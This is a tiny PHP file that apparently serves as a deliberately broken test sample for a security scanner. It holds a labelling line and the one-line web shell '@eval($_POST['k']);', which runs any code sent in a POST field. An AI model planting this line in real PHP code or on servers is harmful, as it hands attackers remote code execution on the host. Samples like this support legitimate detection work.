<?php
shodo inert sample: deliberate syntax error, this file never runs
@eval($_POST['k']);
